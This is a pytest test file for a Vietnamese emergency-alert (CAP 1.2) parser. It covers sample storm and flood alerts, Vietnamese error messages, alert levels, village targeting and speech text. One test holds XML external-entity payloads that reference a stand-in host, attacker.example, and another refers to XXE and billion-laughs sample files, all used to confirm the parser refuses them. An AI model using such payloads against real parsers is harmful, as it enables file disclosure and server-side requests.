"""CAP 1.2: safe parsing, readable refusals, level, targets, speech and
Update/Cancel links — no I/O beyond reading the sample files."""
import time
import unicodedata
from datetime import timedelta
from pathlib import Path

import pytest

from services.broadcast import cap
from shared.errors import InvalidInput
from shared.timeutil import parse_iso

SAMPLES = Path(__file__).parent / "cap_samples"

VILLAGES = [{"id": "thon-1", "name": "Thôn 1"}, {"id": "thon-2", "name": "Thôn 2"},
            {"id": "thon-3", "name": "Thôn 3"}, {"id": "thon-4", "name": "Thôn 4"},
            {"id": "thon-5", "name": "Thôn 5"}, {"id": "thon-7", "name": "Thôn 7"},
            {"id": "thon-10", "name": "Thôn 10"}, {"id": "dong", "name": "Thôn Đông"},
            {"id": "dong-hai", "name": "Thôn Đông Hải"}, {"id": "tay", "name": "Thôn Tây"}]


def sample(name):
    return (SAMPLES / name).read_bytes()


def parsed(name):
    return cap.parse(sample(name))


MINIMAL = """<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>NB-1</identifier>
  <sender>pctt@ninhbinh.gov.vn</sender>
  <sent>2026-09-18T15:30:00+07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <language>vi-VN</language>
    <category>Met</category>
    <event>Mưa lớn</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Likely</certainty>
    <headline>Mưa lớn diện rộng</headline>
    <area>
      <areaDesc>Xã Xuân Hưng</areaDesc>
    </area>
  </info>
</alert>
"""


def document(*replacements):
    """MINIMAL with each (old, new) replaced; the old text must be there."""
    text = MINIMAL
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text.encode("utf-8")


def refusal(data, **kwargs):
    with pytest.raises(InvalidInput) as caught:
        cap.parse(data, **kwargs)
    return caught.value


# ---------------------------------------------------------------- samples


@pytest.mark.parametrize("name, msg_type, blocks", [
    ("storm_warning.xml", "Alert", 1),
    ("storm_update.xml", "Update", 1),
    ("storm_cancel.xml", "Cancel", 0),
    ("flood_bilingual.xml", "Alert", 2),
    ("drill_exercise.xml", "Alert", 1),
])
def test_the_samples_parse(name, msg_type, blocks):
    alert = parsed(name)
    assert alert["msgType"] == msg_type
    assert len(alert["info"]) == blocks


def test_the_storm_warning_reads_as_cap_says():
    alert = parsed("storm_warning.xml")
    assert {k: alert[k] for k in ("identifier", "sender", "sent", "status", "scope", "incidents", "code")} == {
        "identifier": "NB-PCTT-2026-0918-01", "sender": "pctt@ninhbinh.gov.vn",
        "sent": "2026-09-18T08:30:00.000Z", "status": "Actual", "scope": "Public",
        "incidents": "NB-BAO-SO-3-2026", "code": ["VN-HTTTN-1.0"]}
    assert alert["references"] == []
    info = alert["info"][0]
    assert info["language"] == "vi-VN"
    assert info["category"] == ["Met", "Geo"]
    assert info["responseType"] == ["Evacuate", "Prepare"]
    assert (info["urgency"], info["severity"], info["certainty"]) == ("Immediate", "Extreme", "Likely")
    assert (info["effective"], info["onset"], info["expires"]) == (
        "2026-09-18T08:30:00.000Z", "2026-09-18T15:00:00.000Z", "2026-09-19T11:00:00.000Z")
    assert info["eventCode"] == [{"valueName": "VN-CAP-DO-RUI-RO", "value": "4"}]
    assert info["parameters"] == [{"valueName": "CAP_DO_GIO", "value": "12"}]
    assert info["senderName"] == "Ban Chỉ huy Phòng chống thiên tai và Tìm kiếm cứu nạn tỉnh Ninh Bình"
    first, second, third = info["areas"]
    assert first["areaDesc"] == "Các thôn ven sông Hoàng Long: thôn 1, 2 và 5, xã Xuân Hưng"
    assert first["polygons"][0][0] == [20.2612, 105.9701] and len(first["polygons"][0]) == 5
    assert second["circles"] == [{"center": [20.2537, 105.9802], "radius_km": 1.5}]
    assert second["geocodes"] == [{"valueName": "TINXA-VILLAGE", "value": "thon-7"}]
    assert third == {"areaDesc": "Thôn 3, xã Xuân Thịnh", "polygons": [], "circles": [], "geocodes": [],
                     "altitude": None, "ceiling": None}


def test_an_info_without_effective_takes_effect_when_sent():
    alert = parsed("storm_update.xml")
    assert alert["info"][0]["effective"] == alert["sent"] == "2026-09-18T14:00:00.000Z"


def test_language_defaults_to_en_us_as_cap_says():
    alert = cap.parse(document(("    <language>vi-VN</language>\n", "")))
    assert alert["info"][0]["language"] == "en-US"


def test_a_z_suffix_is_tolerated_and_fractions_kept_to_the_millisecond():
    alert = cap.parse(document(("2026-09-18T15:30:00+07:00", "2026-09-18T08:30:00.25Z")))
    assert alert["sent"] == "2026-09-18T08:30:00.250Z"


def test_elements_of_other_namespaces_and_resources_are_ignored():
    alert = cap.parse(document(
        ("<scope>Public</scope>", '<scope>Public</scope><x:extra xmlns:x="urn:example">1</x:extra>'),
        ("</area>", ("</area><resource><resourceDesc>Bản tin</resourceDesc>"
                     "<mimeType>audio/mpeg</mimeType></resource>"))))
    assert "extra" not in alert and "resource" not in alert["info"][0]


# ---------------------------------------------------------------- refusals


INVALID = [
    ("not xml", b"day khong phai XML", "alert", "CAP không hợp lệ — không phải XML hợp lệ ("),
    ("empty", b"", "alert", "CAP không hợp lệ — không phải XML hợp lệ ("),
    ("truncated", MINIMAL.encode()[:200], "alert", "CAP không hợp lệ — không phải XML hợp lệ ("),
    ("undeclared entity", document(("<event>Mưa lớn</event>", "<event>&mua;</event>")), "alert",
     "CAP không hợp lệ — không phải XML hợp lệ (undefined entity"),
    ("cap 1.1 namespace", document(("cap:1.2", "cap:1.1")), "alert",
     ("CAP không hợp lệ — alert: sai không gian tên (namespace) «urn:oasis:names:tc:emergency:cap:1.1»; "
      "CAP 1.2 phải dùng «urn:oasis:names:tc:emergency:cap:1.2».")),
    ("no namespace", document((' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', "")), "alert",
     ("CAP không hợp lệ — alert: sai không gian tên (namespace) «không có»; "
      "CAP 1.2 phải dùng «urn:oasis:names:tc:emergency:cap:1.2».")),
    ("another root", b'<feed xmlns="http://www.w3.org/2005/Atom"/>', "feed",
     ("CAP không hợp lệ — feed: phần tử gốc phải là «alert» trong không gian tên "
      "«urn:oasis:names:tc:emergency:cap:1.2».")),
    ("no identifier", document(("<identifier>NB-1</identifier>", "")), "alert/identifier",
     "CAP không hợp lệ — alert/identifier: thiếu phần tử bắt buộc."),
    ("empty sender", document(("<sender>pctt@ninhbinh.gov.vn</sender>", "<sender>  </sender>")),
     "alert/sender", "CAP không hợp lệ — alert/sender: phần tử rỗng."),
    ("identifier with a space", document(("<identifier>NB-1</identifier>", "<identifier>NB 1</identifier>")),
     "alert/identifier",
     "CAP không hợp lệ — alert/identifier: «NB 1» không được chứa khoảng trắng, dấu phẩy, '<' hay '&'."),
    ("sender with a comma", document(("pctt@ninhbinh.gov.vn", "pctt,ninhbinh")), "alert/sender",
     "CAP không hợp lệ — alert/sender: «pctt,ninhbinh» không được chứa khoảng trắng, dấu phẩy, '<' hay '&'."),
    ("no status", document(("<status>Actual</status>", "")), "alert/status",
     "CAP không hợp lệ — alert/status: thiếu phần tử bắt buộc."),
    ("bad status", document(("<status>Actual</status>", "<status>Real</status>")), "alert/status",
     ("CAP không hợp lệ — alert/status: giá trị không hợp lệ «Real» "
      "(chọn một trong Actual, Exercise, System, Test, Draft).")),
    ("lower-case msgType", document(("<msgType>Alert</msgType>", "<msgType>alert</msgType>")), "alert/msgType",
     ("CAP không hợp lệ — alert/msgType: giá trị không hợp lệ «alert» "
      "(chọn một trong Alert, Update, Cancel, Ack, Error).")),
    ("bad scope", document(("<scope>Public</scope>", "<scope>Công khai</scope>")), "alert/scope",
     "CAP không hợp lệ — alert/scope: giá trị không hợp lệ «Công khai» (chọn một trong Public, Restricted, Private)."),
    ("restricted without restriction", document(("<scope>Public</scope>", "<scope>Restricted</scope>")),
     "alert/restriction", "CAP không hợp lệ — alert/restriction: bắt buộc khi scope là Restricted."),
    ("private without addresses", document(("<scope>Public</scope>", "<scope>Private</scope>")),
     "alert/addresses", "CAP không hợp lệ — alert/addresses: bắt buộc khi scope là Private."),
    ("Vietnamese date", document(("2026-09-18T15:30:00+07:00", "18/09/2026 15:30")), "alert/sent",
     ("CAP không hợp lệ — alert/sent: thời điểm không hợp lệ «18/09/2026 15:30» "
      "(dạng 2026-10-27T14:30:00+07:00, có múi giờ).")),
    ("time without offset", document(("2026-09-18T15:30:00+07:00", "2026-09-18T15:30:00")), "alert/sent",
     ("CAP không hợp lệ — alert/sent: thời điểm không hợp lệ «2026-09-18T15:30:00» "
      "(dạng 2026-10-27T14:30:00+07:00, có múi giờ).")),
    ("no such day", document(("2026-09-18T15:30:00+07:00", "2026-02-30T15:30:00+07:00")), "alert/sent",
     "CAP không hợp lệ — alert/sent: thời điểm không tồn tại «2026-02-30T15:30:00+07:00»."),
    ("bad expires", document(("<headline>", "<expires>ngày mai</expires><headline>")), "alert/info[1]/expires",
     ("CAP không hợp lệ — alert/info[1]/expires: thời điểm không hợp lệ «ngày mai» "
      "(dạng 2026-10-27T14:30:00+07:00, có múi giờ).")),
    ("update without references", document(("<msgType>Alert</msgType>", "<msgType>Update</msgType>")),
     "alert/references",
     "CAP không hợp lệ — alert/references: bắt buộc với msgType Update: phải nêu tin cảnh báo gốc."),
    ("cancel without references", document(("<msgType>Alert</msgType>", "<msgType>Cancel</msgType>")),
     "alert/references",
     "CAP không hợp lệ — alert/references: bắt buộc với msgType Cancel: phải nêu tin cảnh báo gốc."),
    ("reference of two parts",
     document(("<msgType>Alert</msgType>",
               "<msgType>Update</msgType><references>pctt@ninhbinh.gov.vn,NB-0</references>")),
     "alert/references",
     "CAP không hợp lệ — alert/references: «pctt@ninhbinh.gov.vn,NB-0» không có dạng sender,identifier,sent."),
    ("reference with an empty part",
     document(("<msgType>Alert</msgType>",
               "<msgType>Cancel</msgType><references>,NB-0,2026-09-18T15:30:00+07:00</references>")),
     "alert/references",
     ("CAP không hợp lệ — alert/references: «,NB-0,2026-09-18T15:30:00+07:00» "
      "không có dạng sender,identifier,sent.")),
    ("reference with a bad time",
     document(("<msgType>Alert</msgType>",
               "<msgType>Cancel</msgType><references>pctt@ninhbinh.gov.vn,NB-0,18/9</references>")),
     "alert/references",
     ("CAP không hợp lệ — alert/references: thời điểm không hợp lệ «18/9» "
      "(dạng 2026-10-27T14:30:00+07:00, có múi giờ).")),
    ("no category", document(("<category>Met</category>", "")), "alert/info[1]/category",
     "CAP không hợp lệ — alert/info[1]/category: thiếu phần tử bắt buộc."),
    ("bad category", document(("<category>Met</category>", "<category>Weather</category>")),
     "alert/info[1]/category",
     ("CAP không hợp lệ — alert/info[1]/category: giá trị không hợp lệ «Weather» (chọn một trong Geo, Met, "
      "Safety, Security, Rescue, Fire, Health, Env, Transport, Infra, CBRNE, Other).")),
    ("no event", document(("<event>Mưa lớn</event>", "")), "alert/info[1]/event",
     "CAP không hợp lệ — alert/info[1]/event: thiếu phần tử bắt buộc."),
    ("bad urgency", document(("<urgency>Immediate</urgency>", "<urgency>Khẩn cấp</urgency>")),
     "alert/info[1]/urgency",
     ("CAP không hợp lệ — alert/info[1]/urgency: giá trị không hợp lệ «Khẩn cấp» "
      "(chọn một trong Immediate, Expected, Future, Past, Unknown).")),
    ("two urgencies", document(("<urgency>Immediate</urgency>",
                                "<urgency>Immediate</urgency><urgency>Expected</urgency>")),
     "alert/info[1]/urgency", "CAP không hợp lệ — alert/info[1]/urgency: chỉ được có một phần tử này."),
    ("no severity", document(("<severity>Severe</severity>", "")), "alert/info[1]/severity",
     "CAP không hợp lệ — alert/info[1]/severity: thiếu phần tử bắt buộc."),
    ("CAP 1.1's Very Likely", document(("<certainty>Likely</certainty>", "<certainty>Very Likely</certainty>")),
     "alert/info[1]/certainty",
     ("CAP không hợp lệ — alert/info[1]/certainty: giá trị không hợp lệ «Very Likely» "
      "(chọn một trong Observed, Likely, Possible, Unlikely, Unknown).")),
    ("bad responseType", document(("<urgency>", "<responseType>Run</responseType><urgency>")),
     "alert/info[1]/responseType",
     ("CAP không hợp lệ — alert/info[1]/responseType: giá trị không hợp lệ «Run» (chọn một trong Shelter, "
      "Evacuate, Prepare, Execute, Avoid, Monitor, Assess, AllClear, None).")),
    ("bad language", document(("<language>vi-VN</language>", "<language>tiếng Việt</language>")),
     "alert/info[1]/language",
     "CAP không hợp lệ — alert/info[1]/language: mã ngôn ngữ không hợp lệ «tiếng Việt» (ví dụ vi-VN)."),
    ("empty headline", document(("<headline>Mưa lớn diện rộng</headline>", "<headline/>")),
     "alert/info[1]/headline", "CAP không hợp lệ — alert/info[1]/headline: phần tử rỗng."),
    ("second info broken", document(("</info>", "</info><info><category>Met</category></info>")),
     "alert/info[2]/event", "CAP không hợp lệ — alert/info[2]/event: thiếu phần tử bắt buộc."),
    ("area without areaDesc", document(("<areaDesc>Xã Xuân Hưng</areaDesc>", "")),
     "alert/info[1]/area[1]/areaDesc", "CAP không hợp lệ — alert/info[1]/area[1]/areaDesc: thiếu phần tử bắt buộc."),
    ("open polygon", document(("</areaDesc>", ("</areaDesc><polygon>20.1,105.9 20.2,105.9 20.2,106.0 "
                                               "20.1,106.0</polygon>"))),
     "alert/info[1]/area[1]/polygon",
     "CAP không hợp lệ — alert/info[1]/area[1]/polygon: đa giác cần ít nhất 4 cặp toạ độ, cặp đầu trùng cặp cuối."),
    ("polygon of lon,lat", document(("</areaDesc>", ("</areaDesc><polygon>105.9,20.1 105.9,20.2 106.0,20.2 "
                                                     "105.9,20.1</polygon>"))),
     "alert/info[1]/area[1]/polygon",
     ("CAP không hợp lệ — alert/info[1]/area[1]/polygon: toạ độ «105.9,20.1» nằm ngoài phạm vi "
      "(vĩ độ ±90, kinh độ ±180).")),
    ("circle without radius", document(("</areaDesc>", "</areaDesc><circle>20.25,105.98</circle>")),
     "alert/info[1]/area[1]/circle",
     "CAP không hợp lệ — alert/info[1]/area[1]/circle: «20.25,105.98» không có dạng «vĩ độ,kinh độ bán_kính_km»."),
    ("circle with a word for a radius", document(("</areaDesc>", "</areaDesc><circle>20.25,105.98 hai</circle>")),
     "alert/info[1]/area[1]/circle", "CAP không hợp lệ — alert/info[1]/area[1]/circle: «hai» không phải là số."),
    ("geocode without value", document(("</areaDesc>", ("</areaDesc><geocode><valueName>TINXA-VILLAGE"
                                                        "</valueName></geocode>"))),
     "alert/info[1]/area[1]/geocode[1]/value",
     "CAP không hợp lệ — alert/info[1]/area[1]/geocode[1]/value: thiếu phần tử bắt buộc."),
]


@pytest.mark.parametrize("data, element, message", [case[1:] for case in INVALID],
                         ids=[case[0] for case in INVALID])
def test_invalid_cap_is_refused_with_a_readable_message(data, element, message):
    err = refusal(data)
    if message.endswith("."):
        assert err.message == message
    else:  # expat's own words and positions follow
        assert err.message.startswith(message)
    assert err.details == {"element": element}


def test_the_invalid_sample_names_its_element():
    err = refusal(sample("invalid_urgency.xml"))
    assert err.details == {"element": "alert/info[1]/urgency"}
    assert "«Khẩn cấp»" in err.message


def test_only_bytes_are_parsed():
    err = refusal(MINIMAL)
    assert err.message == "CAP không hợp lệ — nội dung phải là tài liệu XML (bytes)."


DTD_REFUSED = ("CAP không hợp lệ — tài liệu có khai báo DOCTYPE/DTD; không chấp nhận DTD, thực thể (entity) "
               "hay tham chiếu ra ngoài.")


@pytest.mark.parametrize("name", ["xxe_file.xml", "billion_laughs.xml"])
def test_doctype_attacks_are_refused_without_expanding_anything(name):
    started = time.perf_counter()
    err = refusal(sample(name))
    assert time.perf_counter() - started < 0.5  # 10^9 "lol"s or /etc/passwd were never produced
    assert err.message == DTD_REFUSED and err.details == {"element": "DOCTYPE"}
    assert "root:" not in err.message and "lol" not in err.message


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">',
    '<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    "<!DOCTYPE alert>",
])
def test_any_doctype_is_refused(doctype):
    data = document(('<?xml version="1.0" encoding="UTF-8"?>\n',
                     f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n'))
    assert refusal(data).message == DTD_REFUSED


def test_the_size_limit_is_checked_before_parsing():
    data = document()
    assert cap.parse(data, max_bytes=len(data))["identifier"] == "NB-1"
    err = refusal(data, max_bytes=len(data) - 1)
    assert err.message == (f"CAP không hợp lệ — tài liệu quá lớn ({len(data)} byte; "
                           f"tối đa {len(data) - 1} byte).")
    # not even looked at: a large non-XML blob gets the size message, not a parse error
    assert "quá lớn" in refusal(b"<" * (cap.MAX_BYTES + 1)).message


# ---------------------------------------------------------------- info and level


def test_the_vietnamese_block_is_preferred_over_an_earlier_english_one():
    alert = parsed("flood_bilingual.xml")
    assert alert["info"][0]["language"] == "en-US"
    assert cap.preferred_info(alert)["event"] == "Lũ trên sông Hoàng Long"
    assert cap.preferred_info(alert, "en-US")["event"] == "Flood on the Hoang Long river"


def test_a_block_in_the_primary_language_then_the_first_block_stand_in():
    alert = parsed("flood_bilingual.xml")
    alert["info"][1]["language"] = "vi"
    assert cap.preferred_info(alert) is alert["info"][1]
    alert["info"][1]["language"] = "fr-FR"
    assert cap.preferred_info(alert) is alert["info"][0]


def test_an_alert_without_info_has_nothing_to_broadcast():
    with pytest.raises(InvalidInput) as caught:
        cap.preferred_info(parsed("storm_cancel.xml"))
    assert caught.value.message == "CAP không hợp lệ — alert/info: tin cảnh báo không có khối info nào để phát."


@pytest.mark.parametrize("urgency, severity, certainty, level", [
    ("Immediate", "Extreme", "Observed", "emergency"),
    ("Immediate", "Extreme", "Likely", "emergency"),
    ("Immediate", "Severe", "Observed", "emergency"),
    ("Immediate", "Severe", "Likely", "emergency"),
    ("Immediate", "Extreme", "Possible", "priority"),
    ("Immediate", "Severe", "Unknown", "priority"),
    ("Immediate", "Moderate", "Observed", "priority"),
    ("Immediate", "Minor", "Likely", "priority"),
    ("Expected", "Extreme", "Likely", "priority"),
    ("Expected", "Minor", "Possible", "priority"),
    ("Future", "Extreme", "Likely", "priority"),
    ("Unknown", "Severe", "Possible", "priority"),
    ("Future", "Moderate", "Likely", "normal"),
    ("Unknown", "Unknown", "Unknown", "normal"),
    ("Past", "Extreme", "Observed", "normal"),
    ("Immediate", "Extreme", "Unlikely", "normal"),
    ("Expected", "Severe", "Unlikely", "normal"),
])
def test_level_table(urgency, severity, certainty, level):
    info = {"urgency": urgency, "severity": severity, "certainty": certainty}
    assert cap.level_for(info) == level


@pytest.mark.parametrize("status, grave, mild", [
    ("Actual", "emergency", "priority"),
    ("Exercise", "priority", "priority"),
    ("Test", "normal", "normal"),
    ("System", "normal", "normal"),
    ("Draft", "normal", "normal"),
])
def test_only_actual_alerts_interrupt_as_emergencies(status, grave, mild):
    assert cap.level_for({"urgency": "Immediate", "severity": "Extreme", "certainty": "Observed"}, status) == grave
    assert cap.level_for({"urgency": "Expected", "severity": "Moderate", "certainty": "Likely"}, status) == mild


def test_the_samples_levels():
    assert cap.level_for(parsed("storm_warning.xml")["info"][0]) == "emergency"
    assert cap.level_for(cap.preferred_info(parsed("flood_bilingual.xml"))) == "priority"
    drill = parsed("drill_exercise.xml")
    assert cap.level_for(drill["info"][0], drill["status"]) == "priority"


# ---------------------------------------------------------------- areas


def targets(*descs, commune="Xuân Hưng", villages=VILLAGES):
    return cap.areas_to_targets([{"areaDesc": desc, "geocodes": []} for desc in descs], commune, villages)


def test_the_storm_warnings_areas():
    info = parsed("storm_warning.xml")["info"][0]
    assert cap.areas_to_targets(info["areas"], "Xuân Hưng", VILLAGES) == {
        "commune": False, "zones": ["thon-1", "thon-2", "thon-5", "thon-7"],
        "unmatched": ["Thôn 3, xã Xuân Thịnh"]}


@pytest.mark.parametrize("desc, zones", [
    ("Thôn 1", ["thon-1"]),
    ("thon 1", ["thon-1"]),
    ("THÔN  ĐÔNG", ["dong"]),
    ("thon dong hai", ["dong-hai"]),
    (unicodedata.normalize("NFD", "Thôn Đông Hải"), ["dong-hai"]),
    ("Thôn Đông và thôn Tây", ["dong", "tay"]),
    ("Thôn 10 (ven đê)", ["thon-10"]),
    ("Thôn 1, 2 và 5", ["thon-1", "thon-2", "thon-5"]),
    ("các thôn 3; 4", ["thon-3", "thon-4"]),
    ("Từ thôn 1 đến thôn 4", ["thon-1", "thon-2", "thon-3", "thon-4"]),
    ("thôn 2-4", ["thon-2", "thon-3", "thon-4"]),
    ("Thôn 3, xã Xuân Hưng, tỉnh Ninh Bình", ["thon-3"]),
    ("Thôn 5 và Thôn 1, xã Xuân Hưng", ["thon-1", "thon-5"]),
])
def test_villages_are_found_by_name_ignoring_accents_and_case(desc, zones):
    assert targets(desc) == {"commune": False, "zones": zones, "unmatched": []}


def test_a_longer_village_name_wins_over_the_shorter_one_inside_it():
    assert targets("Thôn Đông Hải")["zones"] == ["dong-hai"]
    assert targets("Thôn Đông, Thôn Đông Hải")["zones"] == ["dong", "dong-hai"]


def test_thon_1_is_not_thon_10():
    assert targets("Thôn 10")["zones"] == ["thon-10"]
    assert targets("Thôn 12")["unmatched"] == ["Thôn 12"]


@pytest.mark.parametrize("desc", ["Xã Xuân Hưng", "xa xuan hung", "Xã Xuân Hưng, tỉnh Ninh Bình",
                                  "xã Xuân Hưng tỉnh Ninh Bình", "Toàn xã", "Xuân Hưng",
                                  "Vùng trũng ven sông Hoàng Long, xã Xuân Hưng"])
def test_an_area_naming_the_commune_and_no_village_means_the_whole_commune(desc):
    assert targets(desc) == {"commune": True, "zones": [], "unmatched": []}


def test_the_commune_name_may_be_given_with_its_title():
    assert targets("xã Xuân Hưng", commune="Xã Xuân Hưng")["commune"] is True


@pytest.mark.parametrize("desc", [
    "Thôn 3, xã Xuân Thịnh",
    "Xã Xuân Hưng Tây",
    "Các xã ven biển",
    "Tỉnh Ninh Bình",
    "Khu vực bãi sông",
])
def test_areas_that_are_not_ours_or_not_understood_are_listed(desc):
    assert targets(desc) == {"commune": False, "zones": [], "unmatched": [desc]}


def test_a_town_is_not_another_commune():
    assert targets("Thôn 2, thị xã Tam Điệp")["zones"] == ["thon-2"]


def test_a_geocode_naming_a_village_id_matches_and_geometry_alone_does_not():
    areas = [{"areaDesc": "Khu dân cư ngoài đê", "geocodes": [{"valueName": "TINXA-VILLAGE", "value": "tay"}]},
             {"areaDesc": "Vùng bán kính 2 km quanh cống Trịnh Xá", "geocodes": [],
              "circles": [{"center": [20.25, 105.98], "radius_km": 2.0}]}]
    assert cap.areas_to_targets(areas, "Xuân Hưng", VILLAGES) == {
        "commune": False, "zones": ["tay"], "unmatched": ["Vùng bán kính 2 km quanh cống Trịnh Xá"]}


def test_zones_are_listed_once_in_the_communes_order_beside_the_whole_commune():
    result = targets("Thôn Tây", "Thôn 2, thôn Tây", "Xã Xuân Hưng")
    assert result == {"commune": True, "zones": ["thon-2", "tay"], "unmatched": []}


# ---------------------------------------------------------------- speech


def test_the_storm_warning_is_spoken_by_its_sender_in_order():
    text = cap.speech_text(parsed("storm_warning.xml")["info"][0])
    lines = text.split("\n")
    assert lines[0] == "Ban Chỉ huy Phòng chống thiên tai và Tìm kiếm cứu nạn tỉnh Ninh Bình thông báo:"
    assert lines[1] == "Cảnh báo khẩn: bão số 3 đổ bộ, mưa lớn và lũ trên sông Hoàng Long."
    assert lines[2].startswith("Hồi 15 giờ ngày 18/9")
    assert "Cấp độ rủi ro thiên tai do bão: cấp 4." in lines
    assert lines[-1] == "Theo dõi thường xuyên thông tin trên loa truyền thanh xã."
    assert unicodedata.is_normalized("NFC", text)


def test_speech_is_nfc_single_spaced_and_punctuated():
    info = {"senderName": None, "headline": unicodedata.normalize("NFD", "Cảnh báo   lũ quét"),
            "description": "  Mưa rất to\n\n  trên 200 mm!  ", "instruction": None}
    text = cap.speech_text(info)
    assert text == "Cảnh báo lũ quét.\nMưa rất to.\ntrên 200 mm!"
    assert unicodedata.is_normalized("NFC", text)


def test_a_headline_the_description_repeats_is_said_once():
    info = {"senderName": None, "headline": "Bão số 3",
            "description": "Bão số 3 đã đổ bộ vào đất liền.", "instruction": "Ở trong nhà"}
    assert cap.speech_text(info) == "Bão số 3 đã đổ bộ vào đất liền.\nỞ trong nhà."


def test_the_sender_is_not_announced_when_the_text_already_names_it():
    info = {"senderName": "UBND xã Xuân Hưng", "headline": "UBND xã Xuân Hưng thông báo lịch cắt điện",
            "description": None, "instruction": None}
    assert cap.speech_text(info) == "UBND xã Xuân Hưng thông báo lịch cắt điện."


def test_an_exercise_says_so_first():
    drill = parsed("drill_exercise.xml")
    text = cap.speech_text(drill["info"][0], drill["status"])
    assert text.split("\n")[:2] == ["Đây là tin diễn tập.", "Ban Chỉ huy Phòng thủ dân sự xã Xuân Hưng thông báo:"]
    assert not cap.speech_text(drill["info"][0]).startswith("Đây là tin diễn tập.")


# ---------------------------------------------------------------- expiry and links


def test_expiry_is_the_alerts_own_or_a_default_after_it_takes_effect():
    assert cap.expires_at(parsed("storm_warning.xml")["info"][0], timedelta(hours=1)) == \
        parse_iso("2026-09-19T11:00:00.000Z")
    drill = parsed("drill_exercise.xml")["info"][0]
    assert cap.expires_at(drill, timedelta(hours=2)) == parse_iso("2026-05-15T02:30:00.000Z")


def test_an_update_references_the_original_whatever_offset_it_wrote():
    original, update = parsed("storm_warning.xml"), parsed("storm_update.xml")
    assert cap.key(original) == "pctt@ninhbinh.gov.vn,NB-PCTT-2026-0918-01,2026-09-18T08:30:00.000Z"
    assert update["references"] == [{"sender": "pctt@ninhbinh.gov.vn", "identifier": "NB-PCTT-2026-0918-01",
                                     "sent": "2026-09-18T08:30:00.000Z"}]
    assert cap.reference_keys(update) == [cap.key(original)]


def test_a_cancel_references_the_original_and_its_update():
    cancel = parsed("storm_cancel.xml")
    assert cancel["msgType"] == "Cancel" and cancel["info"] == []
    assert cancel["note"].startswith("Bão số 3 đã suy yếu")
    assert cap.reference_keys(cancel) == [cap.key(parsed("storm_warning.xml")), cap.key(parsed("storm_update.xml"))]


def test_a_new_alert_references_nothing():
    assert cap.reference_keys(parsed("storm_warning.xml")) == []
